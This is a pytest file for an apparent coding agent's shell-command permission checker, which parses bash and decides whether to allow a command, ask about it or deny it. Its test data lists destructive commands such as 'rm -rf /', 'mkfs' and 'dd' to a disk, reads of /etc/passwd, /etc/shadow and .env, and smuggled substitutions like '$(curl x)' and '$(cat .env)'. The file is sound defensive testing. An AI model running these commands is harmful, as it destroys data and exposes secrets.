"""How shell lines are read: what stands in every construct of bash is found, and what can be told is not asked about."""

from __future__ import annotations

import pytest

from claw_lsp.core.policy.judge import judge
from claw_lsp.core.policy.reading import read_line
from claw_lsp.core.policy.shell import files_named
from claw_lsp.core.policy.writes import named
from claw_lsp.facts.call import Call
from claw_lsp.facts.plan import Plan, PlannedPath, Reach
from claw_lsp.facts.rule import Mode, Rule, Verdict
from claw_lsp.facts.scene import Ground

GROUND = Ground(("/ws", "/lib"), "/ws", "/home/u", claw_home="/home/u/.claw")
MESSAGE = "git commit -m \"$(cat <<'EOF'\nFix it: \"a\" and 'b'\n\n(more) $(not run) `nor this`\nEOF\n)\""

PARTS = [
    ("a; b && c || d | e", ["a", "b", "c", "d", "e"]),
    ("a & b", ["a", "b"]),
    ("a $(b) `c` <(d) >(e)", ["a", "b", "c", "d", "e"]),
    ('a "x $(b "$(c)")"', ["a", "b", "c"]),
    ("x=$(a) b", ["b", "a"]),
    ("a <<E\n$(b)\nE\nc", ["a", "b", "c"]),
    ("a <<'E'\n$(b)\nE\nc", ["a", "c"]),
    ('a <<"E" | b\n$(c)\nE', ["a", "b"]),
    ("a <<-E && b\n\tx $(c)\n\tE", ["a", "b", "c"]),
    ('a <<< "$(b)"', ["a", "b"]),
    ("{ a; b; }", ["a", "b"]),
    ("(a; (b))", ["a", "b"]),
    ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
    ("while a; do b; done; until c; do d; done", ["a", "b", "c", "d"]),
    ('for i in "$(a)"; do b; done', ["a", "b"]),
    ('case "$(a)" in x|y) b ;; *) c ;; esac', ["a", "b", "c"]),
    ("f() { a; }; b", ["a", "b"]),
    ("! a | b", ["a", "b"]),
    ("[ -f x ] && [[ -d y ]] && a", ["[", "[[", "a"]),
    ("a # b; c\nd", ["a", "d"]),
]


@pytest.mark.parametrize(("line", "programs"), PARTS)
def test_every_command_of_a_line_is_found(line: str, programs: list[str]) -> None:
    assert sorted(it.program for it in read_line(line).parts if it.words) == sorted(programs)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ('x=a; b "$x" $x ${x}c "$x/d"', ["b", "a", "a", "ac", "a/d"]),
        ("x='a b' && c \"$x\"", ["c", "a b"]),
        ('x=a\nfor y in b; do c "$x$y"; done', ["c", "ab"]),
    ],
)
def test_a_variable_that_is_set_once_is_what_it_was_set_to(line: str, words: list[str]) -> None:
    read = read_line(line)
    assert (read.unread, [list(it.texts) for it in read.parts if it.words]) == ("", [words])
    assert all(word.sure for part in read.parts for word in part.words)


@pytest.mark.parametrize(
    "line",
    [
        'x=a; x=b; c "$x"',
        'false && x=a; c "$x"',
        'x=a & c "$x"',
        'x=a | b; c "$x"',
        '(x=a); c "$x"',
        'if b; then x=a; fi; c "$x"',
        'c "$x"; x=a',
        'x=a; read -r x; c "$x"',
        'x=a; printf -v x b; c "$x"',
        'x=a; eval x=b; c "$x"',
        'x=a; "re"ad x; c "$x"',
        'for x in a *.py $(b); do c "$x"; done',
        'c "$HOME"',
        'x=$(a); c "$x"',
    ],
)
def test_a_variable_that_may_be_something_else_is_not_known(line: str) -> None:
    told = [it.words[1].sure for it in read_line(line).parts if it.program == "c"]
    assert told and not all(told)


@pytest.mark.parametrize(
    "line",
    [
        "a $x",
        "a $(b)",
        "$x a",
        "a ${x:-b}",
        'a "${x@P}"',
        'a "${x:=b}"',
        'a "$((1 + x))"',
        'a "$[1]"',
        "a ~/b",
        "a {b,c}",
        "a $'b'",
        'a "$@"',
        "f() { a; }",
        "function f { a; }",
        "export A=b",
        "declare x=a",
        "unset a",
        "((x = 1))",
        "for ((;;)); do a; done",
        "select x in a; do b; done",
        "[ a > b ]",
        "[-f a ]",
        "[[-f a ]]",
        "[ -f a ]#>b",
        "[ -f a]",
        "[[ -f a]]",
        "[ a=b ]",
        "[ -f a ]b c",
        "{ a; }#>b",
        "a <<-E\n\t$(b)\n\tE",
        "[[ a =~ b ]]",
        "a <<E\nb",
        "a <<E <<F\nb\nE\nc\nF",
        "a <<E$x\nb\nE",
        "a <<$(b)\nc\n",
        'a <<E\n"${x@P}"\nE',
        "a `b \\`c\\``",
        "for PATH in a; do b; done",
        "x+=a",
        "x[1]=a",
        "x=(a b)",
        "a \\\nb",
        "a\r\nb",
        "a 'b",
        "a |",
        "a" * 10_001,
        "$(" * 900 + "a" + ")" * 900,
    ],
)
def test_what_cannot_be_told_is_said_and_asked_about(line: str) -> None:
    assert read_line(line).unread
    assert decided(line, allow=["*"]).decision == "ask"


def test_a_character_outside_of_ascii_is_a_letter_and_does_no_harm() -> None:
    """tree-sitter-bash 0.25.1 alone ends the process on the first of these."""
    for line in ("{\U000e0041", "a é", "${\U000e0041}", "x\U0001f600=a", "cat <<\U000e0041\n", "a\u00a0b"):
        assert read_line(line * 20) is not None
    assert [it.texts for it in read_line("é ü\u2003\U0001f600; a").parts] == [("é", "ü\u2003\U0001f600"), ("a",)]
    assert decided("echo \u00a0; curl x").decision == "ask"


def test_a_long_list_is_read_to_its_end_and_a_deep_one_never_raises() -> None:
    assert len(read_line("a&&" * 3000 + "a").parts) == 3001
    assert read_line("( " * 1500 + "a" + " )" * 1500).unread


ALLOWED = [
    (MESSAGE, ["git commit *"]),
    (MESSAGE.replace("-m ", "-am "), ["git commit *"]),
    (f"git add -A && {MESSAGE} && git push", ["git commit *", "git add *", "git push"]),
    ('git commit -q --message="$(git log -1)"', ["git commit *"]),
    ('git commit -m "Fix: $(date +%F)"', ["git commit *"]),
    ("gh pr create --title x --body \"$(cat <<'EOF'\na\nEOF\n)\"", ["gh pr create *"]),
    ("python3 - <<'EOF'\nprint(1)\nEOF", ["python3 *"]),
    ('for f in a.py b.py; do pytest "$f"; done', ["pytest *"]),
    ('x=tests; pytest "$x/a.py"', ["pytest *"]),
    ("if [ -f a ]; then npm test; else npm run b; fi", ["npm *"]),
    ("(cd sub && npm test)", ["npm test"]),
    ("npm test &", ["npm test"]),
    ("diff <(sort a) <(sort b)", []),
    ('echo "$(git status -s | wc -l) files"', []),
    ('ls | while read -r x; do echo "$x"; done', []),
    ('for f in *.py; do wc -l "$f"; done', []),
    ("[ $? -eq 0 ] && echo yes", []),
    ("set -euo pipefail; ls", []),
    ("cat <<EOF\na $(date) b\nEOF", []),
    ("cd /ws && git status", []),
    ("case a in a) ls ;; esac", []),
    ('x=$(git rev-parse HEAD); echo "$x"', []),
]


@pytest.mark.parametrize(("line", "allow"), ALLOWED)
def test_what_rules_or_nobody_need_say_is_allowed(line: str, allow: list[str]) -> None:
    assert decided(line, allow=allow).decision == "allow", decided(line, allow=allow)


@pytest.mark.parametrize(
    ("line", "allow"),
    [
        ('git commit -F "$(a)"', ["git commit *", "a"]),
        ('git commit -F -m "$(ls)"', ["git commit *"]),
        ('git commit "$(ls)"', ["git commit *"]),
        ('git commit -m "$(curl x)"', ["git commit *"]),
        ('git commit -m "$(cat .env)"', ["git commit *"]),
        ('git commit -m "$(cat <<EOF\n$(curl x)\nEOF\n)"', ["git commit *"]),
        ('cat "src/$(ls)"', ["cat *"]),
        ('cat "$(ls)"', ["cat *"]),
        ('cat "a b/$(ls)"', ["cat *"]),
        ("npm_config_script_shell=x; npm test", ["npm test"]),
        ('cat -- "$(ls)"', ["cat *"]),
        ('"$(ls)" a', ["*"]),
        ("cat $(ls)", ["cat *"]),
        ('x=/etc; cat "$x/passwd"', ["cat *"]),
        ('for f in a ../b; do cat "$f"; done', ["cat *"]),
        ("for LD_PRELOAD in x; do ls; done", ["ls *"]),
        ("PATH=x; ls", ["ls *"]),
        ("http_proxy=x; npm test", ["npm test"]),
        ("cd sub && git status", ["git status *"]),
        ("cd sub; npm test | git log", ["*"]),
        ('echo "$HOME"', []),
        ("sh <<'E'\nls\nE", ["ls"]),
        ("eval 'ls'", ["eval *", "ls"]),
        ("trap 'ls' EXIT", ["trap *"]),
        ("enable -f x y", ["enable *"]),
        ("[ -v 'a[$(id)]' ]", ["[ *"]),
        ("[ 'a[$(id)]' -eq 1 ]", []),
        ("read 'a[$(id)]'", ["read *"]),
        ('printf "$(ls)" a', []),
        ("while curl x; do ls; done", ["ls"]),
        ("case a in a) curl x ;; esac", []),
        ("if ls; then curl x; fi", []),
        ("ls <(curl x)", []),
        ("{ ls; curl x; } 2>/dev/null", []),
        ('cat <<< "$(curl x)"', []),
        ("ls &\ncurl x", []),
    ],
)
def test_what_a_construct_hides_is_asked_about(line: str, allow: list[str]) -> None:
    assert decided(line, allow=allow).decision == "ask", decided(line, allow=allow)


@pytest.mark.parametrize(
    ("line", "mode", "rules", "decision"),
    [
        ("ls > out", Mode.DEFAULT, [], "ask"),
        ("ls > out", Mode.ACCEPT_EDITS, [], "allow"),
        ("ls > out", Mode.PLAN, ["Edit"], "ask"),
        ("ls > out", Mode.DONT_ASK, [], "deny"),
        ("ls > out", Mode.DEFAULT, ["Bash(ls *)"], "ask"),
        ("ls > src/out", Mode.DEFAULT, ["Edit(src/**)"], "allow"),
        ("ls > out", Mode.DEFAULT, ["Edit(src/**)"], "ask"),
        ("npm i > src/out", Mode.DEFAULT, ["Edit(src/**)"], "ask"),
        ("cd src && ls > out", Mode.DEFAULT, ["Edit(src/**)"], "allow"),
        ("cd src; ls > out", Mode.DEFAULT, ["Edit(src/**)"], "ask"),
        ("(cd src); ls > out", Mode.DEFAULT, ["Edit(src/**)"], "ask"),
        ("for i in 1 2; do ls > src/out; cd src; done", Mode.DEFAULT, ["Edit(src/**)"], "ask"),
        ("ls > .git/hooks/x", Mode.ACCEPT_EDITS, ["Edit"], "ask"),
        ("cd .git && ls > x", Mode.ACCEPT_EDITS, ["Edit"], "ask"),
        ("ls > .claw/settings.json", Mode.BYPASS, ["Edit"], "ask"),
        ("cd .claw; ls > settings.json", Mode.BYPASS, [], "ask"),
        ("ls > ~/.claw/settings.json", Mode.BYPASS, [], "ask"),
        ("f() { ls > .claw/settings.json; }; f", Mode.BYPASS, [], "ask"),
        ("bash -c 'ls > .claw/settings.json'", Mode.BYPASS, [], "ask"),
        ("ls > ~/x", Mode.ACCEPT_EDITS, ["Edit"], "ask"),
        ("ls > ../x", Mode.ACCEPT_EDITS, ["Edit"], "ask"),
        ("ls > /etc/x", Mode.ACCEPT_EDITS, [], "ask"),
        ("ls > /dev/tcp/a.example/80", Mode.ACCEPT_EDITS, ["Edit"], "ask"),
        ("ls > a*", Mode.ACCEPT_EDITS, ["Edit"], "ask"),
        ('ls > "$x"', Mode.ACCEPT_EDITS, ["Edit"], "ask"),
        ("ls >| out", Mode.ACCEPT_EDITS, [], "allow"),
        ("ls &>> out", Mode.ACCEPT_EDITS, [], "allow"),
        ("cat <<'E' > src/a.py\nx\nE", Mode.DEFAULT, ["Edit(src/**)"], "allow"),
        ("cat < src/a", Mode.DEFAULT, [], "allow"),
        ("cat < /etc/passwd", Mode.DEFAULT, [], "ask"),
        ("cat < /etc/passwd", Mode.DEFAULT, ["Read(//etc/**)"], "allow"),
        ("cat < .env", Mode.DEFAULT, [], "ask"),
        ("ls 2> /dev/null", Mode.DEFAULT, [], "allow"),
        ("time cd src; ls > out", Mode.ACCEPT_EDITS, [], "ask"),
        ("mv a b && ls > b/c", Mode.ACCEPT_EDITS, [], "ask"),
        ("mv a b && cd b && touch c", Mode.ACCEPT_EDITS, [], "ask"),
        ("mv a b && ls > c", Mode.ACCEPT_EDITS, [], "allow"),
    ],
)
def test_a_redirection_is_judged_as_an_edit_or_a_read(line: str, mode: Mode, rules: list[str], decision: str) -> None:
    assert decided(line, rules=rules, mode=mode).decision == decision


def test_a_deny_rule_for_edits_finds_a_redirection_where_the_line_has_moved_to() -> None:
    deny = Rule(text="Edit(src/out)", behavior="deny")
    for line in ("ls > src/out", "cd src && ls > out", "cp a src/out", "cd src && cp ../a out"):
        assert judge([deny], Mode.BYPASS, run(line), GROUND).decision == "deny", line


@pytest.mark.parametrize(
    ("line", "decision"),
    [
        ("mkdir -p src/a b", "allow"),
        ("touch a", "allow"),
        ("mv a b", "allow"),
        ("cp a b src", "allow"),
        ("rm -rf build", "allow"),
        ("rm a b", "allow"),
        ("rmdir a", "allow"),
        ("sed -i 's/a/b/g' a.py", "allow"),
        ("sed -i -E '1,3d' a.py", "allow"),
        ("ls | tee out", "allow"),
        ("ln -s a b", "allow"),
        ("cd src && touch a", "allow"),
        ('for d in a b; do mkdir -p "$d"; done', "allow"),
        ("mkdir ../a", "ask"),
        ("mkdir /etc/a", "ask"),
        ("mkdir -m 777 a", "ask"),
        ("touch .git/a", "ask"),
        ("touch .env", "ask"),
        ("cp evil/.mcp.json .", "ask"),
        ("cp evil/pyrightconfig.json .", "ask"),
        ("cp -r a b", "ask"),
        ("cp -t /etc a", "ask"),
        ("mv a *", "ask"),
        ("rm *.py", "ask"),
        ("rm -rf .", "ask"),
        ("sed -i 's/a/b/e' a.py", "ask"),
        ("sed -i 's/a/b/w x' a.py", "ask"),
        ("sed -i '1e id' a.py", "ask"),
        ("sed -i -f x a.py", "ask"),
        ("sed -i 's/a/b/' ../a.py", "ask"),
        ("ln a b", "ask"),
        ("ln -s /etc a", "ask"),
        ("ln -s ../.. a", "ask"),
        ("cd .claw && touch a", "ask"),
        ("chmod 777 a", "ask"),
        ('touch "$x"', "ask"),
        ("x=../..; touch $x/a", "ask"),
        ("X=1 touch a", "ask"),
        ("sudo touch a", "ask"),
    ],
)
def test_simple_file_commands_are_allowed_where_edits_are(line: str, decision: str) -> None:
    assert decided(line, mode=Mode.ACCEPT_EDITS).decision == decision
    assert decided(line).decision == "ask"


@pytest.mark.parametrize("line", ["ls > link/a", "touch link/a", "cp a link", "mv link x", "cd link && ls > a"])
def test_a_link_that_leads_out_is_no_file_of_the_workspace(line: str) -> None:
    found = tuple(PlannedPath(it, it.replace("/ws/link", "/etc")) for it in named(read_line(line), GROUND))
    assert found
    plan = Plan(Call(id="c", name="Bash", input={}), Reach.RUN, "t", writes=found, command=line)
    assert judge([], Mode.ACCEPT_EDITS, plan, GROUND).decision == "ask"


def test_a_file_that_is_read_from_is_looked_up_wherever_it_leads() -> None:
    assert files_named(read_line("npm x < in"), GROUND) == ("/ws/in",)
    assert files_named(read_line("npm x; cat b"), GROUND) == ("/ws", "/ws/b")
    read = (PlannedPath("/ws/in", "/etc/shadow"),)
    plan = Plan(Call(id="c", name="Bash", input={}), Reach.RUN, "t", paths=read, command="cat < in")
    assert judge([], Mode.DEFAULT, plan, GROUND).decision == "ask"


CRITICAL = """
rm -rf /
rm -rf /*
rm -rf /etc
rm -rf /home
rm -rf //usr/
rm -rf ~
rm -rf ~/
rm -rf ~/*
rm -rf $HOME
rm -rf "$HOME"/*
rm -rf /home/u
rm -rf .
rm -rf ./
rm -rf *
rm -rf ./*
rm -rf .*
rm -rf */
rm -rf ./*/
rm -rf ~/*/
rm -rf ..
rm -rf ../..
rm -rf /ws
rm -rf /ws/*
rm -rf /ws/../ws
rm -rf /lib/*
rm -rf "$DIR"/*
rm -rf "$DIR"
rm -rf $DIR/
rm -rf /$DIR
rm -rf /ws/$DIR
rm -rf "/ws/$(ls)"
rm -r -f -- /
rm --recursive /
rmdir /etc
cd / && rm -rf etc
cd /; rm -rf *
echo "$(rm -rf /)"
echo `rm -rf /`
cat <(rm -rf ~)
bash -c 'rm -rf /'
bash -c "cd / && rm -rf *"
sh -ec 'ls; rm -rf ~'
eval rm -rf /
sudo rm -rf /
env -i rm -rf /
timeout 5 nice rm -rf ~
nohup rm -rf / &
find . -exec rm -rf / \\;
xargs rm -rf /
find / -delete
find ~ -name x -delete
find . -delete
find -delete
find . -type f -delete
find /ws -exec rm {} +
if true; then rm -rf /; fi
for i in / ~; do rm -rf "$i"; done
for i in a; do rm -rf /; done
x=/; rm -rf $x
f() { rm -rf /; }; f
case a in a) rm -rf /;; esac
{ rm -rf /; }
(rm -rf /)
\\rm -rf /
r''m -rf /
/bin/rm -rf /
$RM -rf /
echo 'rm -rf /' | sh
bash <<'E'\\nrm -rf /\\nE
bash <<< 'rm -rf /'
mkfs.ext4 /dev/sda
dd if=x of=/dev/sda
""".strip().split("\n")


@pytest.mark.parametrize("line", [it.replace("\\n", "\n") for it in CRITICAL])
def test_what_nothing_brings_back_is_asked_in_every_mode(line: str) -> None:
    for mode in Mode:
        verdict = decided(line, allow=["*"], rules=["Edit", "Read"], mode=mode)
        assert verdict.decision == ("deny" if mode is Mode.DONT_ASK else "ask"), (line, mode, verdict)
        assert verdict.firm


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf build",
        "rm -rf ./build dist/*",
        'rm -rf "build/$x"',
        "rm a.py",
        "rm *.pyc",
        "rmdir a",
        "cd src && rm -rf build",
        "find . -name '*.pyc' -delete",
        "find build -delete",
        'for d in a b; do rm -rf "$d"; done',
        "git clean -fdx",
        "echo rm -rf /",
        "grep 'rm -rf /' a",
        "dd if=a of=/dev/null",
    ],
)
def test_an_ordinary_delete_is_a_command_like_others(line: str) -> None:
    assert decided(line, mode=Mode.BYPASS).decision == "allow"


def test_a_rule_may_allow_an_ordinary_delete_and_no_other() -> None:
    assert decided("rm -rf build", allow=["rm *"]).decision == "allow"
    assert decided("rm -rf build").decision == "ask"
    assert decided("rm -rf .", allow=["rm *"]).decision == "ask"


def run(line: str) -> Plan:
    return Plan(Call(id="c", name="Bash", input={}), Reach.RUN, "t", command=line)


def decided(
    line: str, *, allow: list[str] | None = None, rules: list[str] | None = None, mode: Mode = Mode.DEFAULT
) -> Verdict:
    texts = [*(f"Bash({it})" for it in allow or []), *(rules or [])]
    return judge([Rule(text=it, behavior="allow") for it in texts], mode, run(line), GROUND)
